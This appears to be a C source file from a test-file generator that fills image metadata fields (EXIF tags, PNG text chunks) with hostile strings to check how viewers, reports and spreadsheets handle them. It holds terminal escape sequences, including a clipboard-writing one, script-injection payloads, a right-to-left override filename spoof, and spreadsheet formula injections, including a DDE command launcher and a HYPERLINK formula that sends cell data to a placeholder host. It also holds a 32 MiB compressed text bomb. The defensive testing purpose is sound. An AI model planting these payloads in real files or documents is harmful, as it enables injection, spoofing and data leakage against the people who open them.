/* SPDX-License-Identifier: GPL-3.0-or-later */
/* broken_text.c: texts that must not reach a terminal, a report or a spreadsheet as they
 * are. */
#include "broken.h"
#include "common.h"

#include <stdlib.h>
#include <string.h>

static const char *const text_keys[] = {
	"make", "model", "software", "description", "artist", "copyright", "user_comment",
	"lens", "owner", "body_serial", "com", "xmp",
};

static void set_all(struct options *o, const char *text)
{
	for (size_t i = 0; i < sizeof text_keys / sizeof *text_keys; i++)
		options_set(o, text_keys[i], text);
}

void text_empty(struct options *o)
{
	set_all(o, "");
	options_set(o, "datetime", "");
	options_set(o, "datetime_original", "");
}

/* Title, clear screen, colour, an operating system command, a bell and an 8-bit CSI. */
static const char escapes[] = "\033]0;taken over\007\033[2J\033[1;1H\033[31mred\033[0m"
			      "\033]52;c;Y2F1Z2h0\007\033P+q544e\033\\\302\2332J";

void text_escapes(struct options *o)
{
	set_all(o, escapes);
}

void text_html(struct options *o)
{
	set_all(o, "<script>alert(1)</script><img src=x onerror=alert(2)>"
		   "&lt;b&gt;\"'><!-- ]]> </textarea>");
}

/* U+202E, U+2066, U+2069 and a zero-width joiner. */
void text_bidi(struct options *o)
{
	set_all(o, "evil\342\200\256gpj.exe\342\201\246abc\342\201\251\342\200\215end");
}

void text_formula(struct options *o)
{
	static const char *const formulas[] = {
		"=HYPERLINK(\"http://example.invalid/?\"&A1,\"see\")", "+1+1", "-2+3",
		"@SUM(A1:A9)", "\t=1+1", "=cmd|' /C calc'!A0",
	};

	for (size_t i = 0; i < sizeof text_keys / sizeof *text_keys; i++)
		options_set(o, text_keys[i], formulas[i % 6]);
}

void text_control(struct options *o)
{
	set_all(o, "a\tb\nc\rd\be\001f\177g,h;i\"j\"|k");
}

void text_not_utf8(struct options *o)
{
	set_all(o, "caf\351 \300\200 \355\240\200 \370\210\200\200\200 \377\376");
}

void text_long(struct options *o)
{
	char *text = xnew(40001, 1);

	memset(text, 'W', 40000);
	options_set(o, "description", text);
	free(text);
}

void png_text_escapes(struct options *o)
{
	options_set(o, "text.Comment", escapes);
	options_set(o, "text.Software", "<script>alert(1)</script>");
	options_set(o, "itxt.Title", "evil\342\200\256gpj.exe");
	options_set(o, "itxt.Author", escapes);
}

void png_text_bomb(struct options *o)
{
	size_t n = (size_t)32 << 20;
	char *text = xnew(n + 1, 1);

	memset(text, 'W', n);
	options_set(o, "ztxt.Comment", text);
	free(text);
}
